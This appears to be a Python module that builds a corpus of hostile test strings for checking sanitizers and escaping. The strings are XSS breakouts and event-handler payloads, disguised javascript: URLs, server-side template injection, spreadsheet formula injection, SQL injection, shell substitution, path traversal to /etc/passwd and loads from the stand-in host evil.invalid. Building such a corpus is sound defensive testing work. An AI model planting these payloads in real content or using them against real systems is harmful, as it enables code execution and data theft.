"""Hostile text, generated from its parts: what breaks out of each place, what runs, how it hides.

Each payload that runs at all calls ``trap()`` or asks for an address below ``evil.invalid``.
"""

import itertools
from collections.abc import Iterator
from typing import Final

OUT: Final = "https://evil.invalid/x"

# What ends the place that a text may stand in: an attribute, an element, a comment, a block.
BREAKS: Final = (
    "",
    '">',
    "'>",
    '"/>',
    "`>",
    "-->",
    "--!>",
    "]]>",
    "?>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</p></main></body></html>",
    "<!--",
    "<![CDATA[",
    "<!DOCTYPE x>",
    "\\",
    '\\"',
    "\\u003c/script>",
    "*/",
    "//",
    "{{",
    "{%",
    "{#",
    "${",
    "%>",
    "\u2028",
)
EVENTS: Final = (
    *("onerror", "onload", "onfocus", "onblur", "onclick", "ontoggle", "onbegin", "onend"),
    *("onstart", "onscroll", "onwheel", "onpointerenter", "onpointerrawupdate", "onmouseover"),
    *("onanimationstart", "ontransitionend", "onbeforetoggle", "onpageshow", "onhashchange"),
    *("oncontentvisibilityautostatechange", "onbeforematch", "onsecuritypolicyviolation"),
)
ELEMENTS: Final = (
    *(
        "img src=x",
        "image src=x",
        "svg",
        "body",
        "video src=x",
        "audio src=x",
        "source",
        "input autofocus",
    ),
    *(
        "select autofocus",
        "details open",
        "marquee",
        "iframe src=x",
        "object data=x",
        "embed src=x",
    ),
    *("button popovertarget=x popover", "style", "math", "frameset", "track", "x tabindex=1"),
    *("a href=# autofocus", "svg><animate attributeName=x dur=1s", "svg><set attributeName=x"),
)
CALLS: Final = ("trap()", "trap`1`", "top['tr'+'ap']()", "eval('trap()')", "alert(1)")
WHOLE: Final = {
    "scripts": (
        "<script>trap()</script>",
        "<ScRiPt>trap()</sCrIpT>",
        "<script/x>trap()</script/x>",
        "<script\n>trap()</script\n>",
        f"<script src={OUT}></script>",
        "<script src=//evil.invalid/x async></script>",
        "<script type=module>trap()</script>",
        "<svg><script>trap()</script></svg>",
        "<svg><script href=data:text/javascript,trap()></script></svg>",
        "<math><mtext><script>trap()</script></mtext></math>",
        "<noscript><p title='</noscript><img src=x onerror=trap()>'>",
        "<svg></p><style><a id='</style><img src=1 onerror=trap()>'>",
        "<math><mi><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=trap()&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=trap()>",
    ),
    "frames": (
        f"<iframe src={OUT}></iframe>",
        "<iframe srcdoc='<script>parent.trap()</script>'></iframe>",
        "<iframe src=javascript:parent.trap()></iframe>",
        "<object data='data:text/html,<script>trap()</script>'></object>",
        f"<embed src={OUT}>",
    ),
    "loads": (
        f"<link rel=stylesheet href={OUT}>",
        f"<link rel=prefetch href={OUT}>",
        f"<style>@import '{OUT}';</style>",
        f"<style>*{{background:url({OUT})}}</style>",
        f"<p style=\"background:url('{OUT}')\">",
        f"<base href={OUT}>",
        f"<meta http-equiv=refresh content='0;url={OUT}'>",
        "<meta http-equiv=refresh content='0;url=javascript:trap()'>",
        f"<form action={OUT}><button>go</button></form>",
        f"<img src={OUT}>",
        f"<img srcset='{OUT} 1x'>",
        f"<video poster={OUT}></video>",
        f"<body background={OUT}>",
    ),
    "links": (
        "<a href=javascript:trap()>x</a>",
        "<a href='java\tscript:trap()'>x</a>",
        "<a href=&#106;avascript:trap()>x</a>",
        "<a href='data:text/html,<script>trap()</script>'>x</a>",
        "<svg><a xlink:href=javascript:trap()><text y=20>x</text></a></svg>",
        f"<svg><use href='{OUT}#x'/></svg>",
        f"<svg><image href={OUT}></svg>",
    ),
    "names of the page": (
        "<x id=page><x id=config name=config><form name=body><input name=children>",
        "<img name=getElementById><a id=location href=javascript:trap()>",
        "<template shadowrootmode=open><script>trap()</script></template>",
    ),
    "raw text": (
        "<plaintext>",
        "<xmp><p title='</xmp><img src=x onerror=trap()>'>",
        "<listing>&lt;img src=x onerror=trap()&gt;</listing>",
        "<textarea autofocus onfocus=trap()>",
        "<isindex type=image src=1 onerror=trap()>",
        "<?xml-stylesheet href=javascript:trap()?>",
        "<!ENTITY x SYSTEM 'file:///etc/passwd'>&x;",
    ),
    "encodings": (
        "&lt;script&gt;trap()&lt;/script&gt;",
        "&amp;lt;script&amp;gt;trap()&amp;lt;/script&amp;gt;",
        "&#60;script&#62;trap()&#60;/script&#62;",
        "&#x3c;script>trap()&#x3c;/script>",
        "%3Cscript%3Etrap()%3C/script%3E",
        "\\x3cscript\\x3etrap()\\x3c/script\\x3e",
        "\\u003cscript\\u003etrap()\\u003c/script\\u003e",
        "+ADw-script+AD4-trap()+ADw-/script+AD4-",
        "＜script＞trap()＜/script＞",
        "‹script›trap()‹/script›",
        "ʺ onmouseover=trap() x=ʺ",
        "<ſcript>trap()</ſcript>",
        "<ıframe src=x onload=trap()>",
        "<img src=x onerror\u00a0=trap()>",
    ),
    "templates": (
        "{{ page.__class__.__mro__ }}",
        "{{ ''.__class__.__base__.__subclasses__() }}",
        "{% include '/etc/passwd' %}",
        "{{ cycler.__init__.__globals__.os.popen('touch pwned') }}",
        "${7*7}#{7*7}<%= 7*7 %>",
        "{{constructor.constructor('trap()')()}}",
    ),
    "formulas": (
        '=HYPERLINK("https://evil.invalid/x")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
    ),
    "bibliographies and calendars": (
        "\\input{/etc/passwd}",
        "\\write18{touch pwned}",
        "} , note = {",
        "END:VEVENT BEGIN:VALARM",
        "a;b,c:d\\n\\N",
    ),
    "shells and paths": (
        "'; DROP TABLE events; --",
        "$(touch pwned)`touch pwned`",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "file:///etc/passwd",
        "con.txt",
    ),
    "names of objects": (
        "__proto__",
        "constructor",
        "toString",
    ),
    "Markdown": (
        "[click](javascript:trap())",
        "![x](https://evil.invalid/x)",
        "[@bridge](javascript:trap())",
        "<https://evil.invalid/x>",
    ),
    "writing": (
        "раураl аррlе",  # Cyrillic letters that look like Latin ones
        "مرحبا <b>שלום</b> abc",
        "á́́́́́́́́́́́́́́́́́́́",
        "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
        "ﷺ" * 20,
        "W" * 150,
    ),
}


def events_of_elements() -> Iterator[str]:
    """Yield elements with handlers after what ends each place."""
    for at, (_, element, event) in enumerate(itertools.product(range(4), ELEMENTS, EVENTS)):
        gap = (" ", "/", " x ", "  ")[at % 4]
        call = CALLS[at % len(CALLS)]
        quote = ("", '"', "'")[at % 3]
        yield f"{BREAKS[at % len(BREAKS)]}<{element}{gap}{event}={quote}{call}{quote}>"


def attributes() -> Iterator[str]:
    """Yield texts that add an attribute where they stand in one."""
    for quote, event, call in itertools.product(('"', "'", "` ", " "), EVENTS, CALLS):
        yield f"x{quote} {event}={call} autofocus tabindex=1 x={quote}"


def wholes() -> Iterator[str]:
    """Yield each whole payload after each thing that ends a place."""
    for end, whole in itertools.product(BREAKS, itertools.chain(*WHOLE.values())):
        yield end + whole


def disguises(word: str = "javascript") -> Iterator[str]:
    """Yield ``javascript:`` as browsers, URL parsers and Markdown may each read it."""
    breaks = (
        "\t",
        "\n",
        "\r",
        "\x00",
        "\x01",
        "\u00ad",
        "\u200b",
        "\u2060",
        "\ufeff",
        "\u202e",
        " ",
    )
    for mark in (*breaks, "%09", "%0a", "&#9;", "&#x0A;", "&Tab;", "&NewLine;", "&#0;", "/", "\\"):
        yield f"{word[:4]}{mark}{word[4:]}:trap()"
        yield f"{mark}{word}:trap()"
        yield f"{word}{mark}:trap()"
    for colon in ("&colon;", "&#58;", "&#x3a;", "%3a", "%3A", "：", "︰", "\\:"):
        yield f"{word}{colon}trap()"
    for spelled in (word.upper(), word.title(), "jAvAsCrIpT", "ｊａｖａｓｃｒｉｐｔ", "javaſcript"):
        yield f"{spelled}:trap()"
        yield f"{spelled}://%0atrap()"
    for at, letter in enumerate(word):
        for entity in (f"&#{ord(letter)};", f"&#x{ord(letter):x};", f"&#{ord(letter):07}"):
            yield f"{word[:at]}{entity}{word[at + 1 :]}:trap()"
        yield f"{word[:at]}%{ord(letter):02x}{word[at + 1 :]}:trap()"
    yield from (
        "data:text/html,<script>trap()</script>",
        "data:text/html;base64,PHNjcmlwdD50cmFwKCk8L3NjcmlwdD4=",
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='trap()'/>",
        "vbscript:trap()",
        "livescript:trap()",
        "feed:javascript:trap()",
        "view-source:javascript:trap()",
        "blob:https://evil.invalid/x",
        "filesystem:https://evil.invalid/x",
        "file:///etc/passwd",
        "about:blank",
        "jar:https://evil.invalid/x!/",
        "//evil.invalid/x",
        "/\\evil.invalid/x",
        "\\\\evil.invalid\\x",
        "https:evil.invalid/x",
        "https:/evil.invalid/x",
        "https:///evil.invalid/x",
        "https://",
        "https://\u0000evil.invalid",
        "https://[::1",
        "https://a b/",
        'https://x/"onmouseover="trap()',
        "https://x/'><script>trap()</script>",
        "https://x/\u202egpj.exe",
        "ht\ntps://evil.invalid",
    )


def texts() -> tuple[str, ...]:
    """Return every payload that is one line of characters that a text may hold."""
    made = dict.fromkeys([*events_of_elements(), *attributes(), *wholes(), *disguises()])
    return tuple(text for text in made if text.isprintable() and text.strip() == text and text)


def families() -> dict[str, tuple[str, ...]]:
    """Return the payloads that texts() has, by what they try."""
    kinds = {
        name: [end + whole for end in BREAKS for whole in some] for name, some in WHOLE.items()
    }
    kinds |= {"elements": [*events_of_elements()], "attributes": [*attributes()]}
    kinds["addresses"] = [*disguises()]
    kept = set(texts())
    return {name: tuple(text for text in some if text in kept) for name, some in kinds.items()}


# What nobody sees, or what turns the reading direction.
INVISIBLE: Final = (
    *("\x00", "\x01", "\x08", "\x0b", "\x0c", "\x1b", "\x7f", "\x80", "\x85", "\x9f"),
    *("\u061c", "\u200e", "\u200f", "\u202a", "\u202b", "\u202c", "\u202d", "\u202e"),
    *("\u2066", "\u2067", "\u2068", "\u2069", "\u2028", "\u2029", "\u206a", "\ufff9", "\ufffb"),
    *("\ufdd0", "\ufffe", "\uffff", "\U0001fffe", "\U0010ffff", "\ud800", "\udfff", "\ue000"),
)
IDS: Final = (
    *("..", ".", "...", "../x", "..\\x", "/etc/passwd", "C:\\x", "a/b", "a\\b", "%2e%2e", "a%2fb"),
    *("~", "~root", "$HOME", "-", "--help", "-rf", " x", "x ", "a b", "a\tb", "x.", "x..", ".x"),
    *("con", "CON", "Con", "prn", "aux", "nul", "NUL", "com1", "LPT9", "com0", "con.", "nul.txt"),
    *("index.html", ".htaccess", ".git", "a:b", "a*b", "a?b", "a#b", "a&b", "a;b", "a|b", "a'b"),
    *('a"b', "a<b", "a>b", "<script>", "a\u0000b", "a\u202eb", "a\u200bb", "a\u00adb", "\ufeffa"),
    *("e\u0301", "ﬁ\u0301", "A\u030a", "가", "\u0301a", "x" * 101, "𐐀" * 100),
    *("é" * 101, "x" * 100_000, "①", "½", "a_b", "a\u2010b", "a.b", "\ud800", "", "null", "~x"),
)
